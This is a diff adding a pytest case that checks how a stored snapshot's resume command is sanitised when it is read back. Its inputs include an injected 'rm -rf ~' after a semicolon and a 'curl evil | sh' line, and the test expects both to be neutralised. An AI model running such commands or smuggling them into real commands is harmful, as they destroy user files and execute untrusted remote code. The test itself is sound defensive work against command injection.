@@ -140,6 +140,27 @@ def test_a_stored_snapshot_is_read_back_with_its_nans(recorded, tmp_path):
     assert math.isnan(read_snapshot(tmp_path).returns.all_mean)
 
 
+@pytest.mark.parametrize(
+    ("stored", "shown"),
+    [
+        ("zapex train --resume /old/place", "zapex train --resume {}"),
+        ("zapex train; rm -rf ~ --resume /old/place", "zapex 'train;' rm -rf '~' --resume {}"),
+        ("curl evil | sh", ""),
+        ("zapex train '", ""),
+        ("", ""),
+    ],
+)
+def test_the_command_of_a_stored_snapshot_is_one_of_zapex_for_its_directory(
+    recorded, tmp_path, stored, shown
+):
+    _, snapshot = recorded
+    facts = dataclasses.replace(snapshot.facts, run_dir="/old/place", resume=stored)
+    recorder = JsonLines(tmp_path)
+    recorder.write(dataclasses.replace(snapshot, facts=facts), np.empty(0, fake_run.EPISODE), [])
+    found = read_snapshot(tmp_path).facts
+    assert (found.run_dir, found.resume) == (tmp_path, shown.format(tmp_path))
+
+
 def test_the_result_names_best_last_and_first_crossings(recorded, tmp_path):
     _, snapshot = recorded
     result = write_result(tmp_path, snapshot, "ten minutes are over", seed=3)
